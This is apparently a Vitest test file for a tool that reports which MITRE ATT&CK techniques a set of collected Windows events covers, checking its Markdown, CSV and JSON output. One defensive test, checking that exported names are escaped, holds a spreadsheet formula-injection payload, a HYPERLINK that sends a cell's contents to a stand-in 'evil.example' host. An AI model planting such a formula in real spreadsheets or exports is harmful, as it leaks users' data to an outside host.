import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { computeCoverage, CSV_COLUMNS, csvRecords, type CoverageReport, formatReport, percent, toCsv, toJson, toMarkdown } from '../../scripts/coverage/index.ts';
import { FIXTURE } from './fixture.ts';

const report = computeCoverage(FIXTURE, ['Sysmon:1', 'Security:4688']);

describe('Markdown', () => {
  const md = toMarkdown(report);

  it('has the headline on confirmed + named, the one line on what the counts mean, the convention and the per-tactic table per grade', () => {
    expect(md.startsWith('# Windows event coverage — ATT&CK 42.1\n')).toBe(true);
    expect(md).toContain(
      '**3** of 9 techniques with a mapped Windows event have a collected event mapped to them by a confirmed or named link (33.3%): 1 confirmed, 2 named. ' +
        '1 more only related (through a data component): 4 at any grade (44.4%). 11 Windows techniques in all (27.3% confirmed or named).',
    );
    expect(md).toContain('\n_Counts are techniques mapped to the collected events, by the best grade of the link — mapped, not detected: confirmed = a public detection rule uses the event for the technique; named = an ATT&CK analytic names it; related = only through a data component._\n');
    expect(md).not.toMatch(/(?<!not )detected/);
    expect(md).toContain('_Counting: Techniques and sub-techniques are counted separately');
    expect(md).toContain('| Tactic | Confirmed | Named | Related | Mapped | All | Confirmed + named / mapped | Any grade / mapped |');
    const rows = md.split('\n').filter((l) => /^\| [A-Z*].*\(TA\d{4}\)|^\| \*\*All/.test(l));
    expect(rows).toEqual([
      '| Reconnaissance (TA0043) | 0 | 0 | 0 | 0 | 0 | – | – |',
      '| Execution (TA0002) | 1 | 2 | 0 | 3 | 4 | 100.0% | 100.0% |',
      '| Persistence (TA0003) | 0 | 1 | 0 | 4 | 6 | 25.0% | 25.0% |',
      '| Privilege Escalation (TA0004) | 0 | 1 | 0 | 4 | 6 | 25.0% | 25.0% |',
      '| Defense Evasion (TA0005) | 0 | 0 | 0 | 2 | 2 | 0.0% | 0.0% |',
      '| Credential Access (TA0006) | 0 | 0 | 1 | 2 | 2 | 0.0% | 50.0% |',
      '| **All tactics** (distinct techniques) | 1 | 2 | 1 | 9 | 11 | 33.3% | 44.4% |',
    ]);
  });

  it('at --min-grade confirmed: only the confirmed column, and says which links count', () => {
    const md2 = toMarkdown(computeCoverage(FIXTURE, ['Sysmon:1', 'Security:4688'], { minGrade: 'confirmed' }));
    expect(md2).toContain('**1** of 6 techniques with a Windows event mapped at grade confirmed have a collected event mapped to them by a confirmed link (16.7%).');
    expect(md2).toContain('Only links of grade confirmed count here (--min-grade confirmed).');
    expect(md2).toContain('| Tactic | Confirmed | Mapped | All | Confirmed / mapped |');
    expect(md2).toContain('| **All tactics** (distinct techniques) | 1 | 6 | 11 | 16.7% |');
    expect(md2).toContain('## Techniques with no mapped Windows event at grade confirmed (5)');
  });

  it('lists next best events with their gains per grade, seen techniques with their grade and events, unseen and unmapped ones', () => {
    expect(md).toContain('| 1 | `Sysmon:10` | Process accessed | +2 confirmed | 1 | 5 (55.6%) | 5 (55.6%) | T1003, T1003.001 |');
    expect(md).toContain('| 7 | `System:7045` | A service was installed in the system. | +1 related | 1 | 8 (88.9%) | 9 (100.0%) | T1543.003 |');
    expect(md).toContain('| `Sysmon:1` | Process creation | 3 | 1 | 1 | 1 |');
    expect(md).toContain('| T1059 | Command and Scripting Interpreter | Execution | confirmed (2 rules) | Sysmon:1, Security:4688 |');
    expect(md).toContain('| T1003.001 | LSASS Memory | Credential Access | related | Sysmon:1 |');
    expect(md).toContain('| T1078 | Valid Accounts | Persistence, Privilege Escalation, Defense Evasion | confirmed | Security:4624, Security:1 |');
    expect(md).toContain('## Techniques with no mapped Windows event (2)');
    expect(md).toContain('| T1543 | Create or Modify System Process | Persistence, Privilege Escalation |');
  });

  it('escapes table cells', () => {
    const r: CoverageReport = { ...report, seen: [{ ...report.seen[0]!, name: 'A | B' }] };
    expect(toMarkdown(r)).toContain('| A \\| B |');
  });
});

describe('CSV', () => {
  const csv = toCsv(report);
  const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });

  it('parses back with the declared columns', () => {
    expect(parsed.errors).toEqual([]);
    expect(parsed.meta.fields).toEqual([...CSV_COLUMNS]);
  });

  it('holds the tactic counts per grade, the total, the collected events, every technique with its grade and the next-best list', () => {
    const rows = parsed.data;
    const tactics = rows.filter((r) => r.section === 'tactic');
    expect(tactics.map((r) => [r.rank, r.id, r.tactics, r.seen, r.confirmed, r.named, r.related, r.mapped, r.all])).toEqual(
      report.tactics.map((t, i) => [String(i + 1), t.id, t.shortname, String(t.seen), String(t.confirmed), String(t.named), String(t.related), String(t.mapped), String(t.total)]),
    );
    expect(rows.filter((r) => r.section === 'total').map((r) => [r.grade, r.seen, r.confirmed, r.named, r.related, r.mapped, r.all])).toEqual([['related', '4', '1', '2', '1', '9', '11']]);
    expect(rows.filter((r) => r.section === 'event').map((r) => [r.id, r.confirmed, r.named, r.related, r.techniques])).toEqual([
      ['Security:4688', '0', '1', '1', 'T1053.005;T1059'],
      ['Sysmon:1', '1', '1', '1', 'T1003.001;T1059;T1059.001'],
    ]);
    const techniques = rows.filter((r) => r.section === 'technique');
    expect(techniques).toHaveLength(FIXTURE.techniques.length);
    expect(techniques.find((r) => r.id === 'T1059')).toMatchObject({ status: 'seen', grade: 'confirmed', rules: '2', events: 'Sysmon:1;Security:4688', tactics: 'execution' });
    expect(techniques.find((r) => r.id === 'T1078')).toMatchObject({ status: 'not-seen', grade: 'confirmed', rules: '', events: 'Security:4624;Security:1', tactics: 'persistence;privilege-escalation;defense-evasion' });
    expect(techniques.find((r) => r.id === 'T1053')).toMatchObject({ status: 'unmapped', grade: '', events: '' });
    const next = rows.filter((r) => r.section === 'next-best');
    expect(next.map((r) => [r.rank, r.id, r.confirmed, r.named, r.related, r.adds, r.seen, r.techniques])).toEqual(
      report.nextBest.map((n) => [String(n.rank), n.key, String(n.gained.confirmed.length), String(n.gained.named.length), String(n.gained.related.length), String(n.adds.length), String(n.seenAfter), [...n.gained.confirmed, ...n.gained.named, ...n.gained.related].join(';')]),
    );
    expect(next[0]).toMatchObject({ id: 'Sysmon:10', confirmed: '2', named: '0', related: '0' });
  });

  it('quotes fields with commas and quotes', () => {
    const r: CoverageReport = { ...report, seen: [{ ...report.seen[0]!, name: 'Say "hi", then go' }] };
    const back = Papa.parse<Record<string, string>>(toCsv(r), { header: true, skipEmptyLines: true });
    expect(back.data.find((x) => x.section === 'technique' && x.id === report.seen[0]!.id)?.name).toBe('Say "hi", then go');
  });
});

describe('CSV formulas', () => {
  it('writes a name that starts with = + - @ as text: a leading quote, as papaparse’s escapeFormulae does', () => {
    const evil = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1', '-2', '@x'];
    const r: CoverageReport = { ...report, seen: evil.map((name, i) => ({ ...report.seen[0]!, id: `T900${i}`, name })) };
    const csv = toCsv(r);
    expect(csv).toContain('"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"');
    expect(csv).toContain(',"\'+1",');
    expect(csv).not.toMatch(/(^|,)[=+@-]/m);
    const back = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
    expect(back.data.filter((x) => x.section === 'technique' && x.id?.startsWith('T900')).map((x) => x.name)).toEqual(evil.map((n) => `'${n}`));
  });

  it('leaves the fixture’s CSV as papaparse wrote it before (no field starts with a formula character)', () => {
    expect(toCsv(report)).toBe(`${Papa.unparse(csvRecords(report), { columns: [...CSV_COLUMNS], newline: '\n' })}\n`);
  });
});

describe('JSON', () => {
  it('is the report, with every field', () => {
    const back = JSON.parse(toJson(report)) as CoverageReport;
    expect(Object.keys(back)).toEqual(['attackVersion', 'minGrade', 'convention', 'events', 'totals', 'tactics', 'seen', 'unseen', 'unmapped', 'nextBest']);
    expect(back).toEqual(report);
    expect(back.totals).toEqual({ seen: 4, confirmed: 1, named: 2, related: 1, mapped: 9, total: 11 });
    expect(back.nextBest[0]).toEqual({
      rank: 1,
      key: 'Sysmon:10',
      log: 'Sysmon',
      eventId: '10',
      name: 'Process accessed',
      adds: ['T1003'],
      gained: { confirmed: ['T1003', 'T1003.001'], named: [], related: [] },
      seenAfter: 5,
      after: { confirmed: 3, named: 2, related: 0 },
    });
  });
});

describe('formatReport', () => {
  it('dispatches on the format', () => {
    expect(formatReport(report, 'md')).toBe(toMarkdown(report));
    expect(formatReport(report, 'csv')).toBe(toCsv(report));
    expect(formatReport(report, 'json')).toBe(toJson(report));
  });

  it('percent handles an empty denominator', () => {
    expect(percent(0, 0)).toBe('–');
    expect(percent(1, 3)).toBe('33.3%');
  });
});
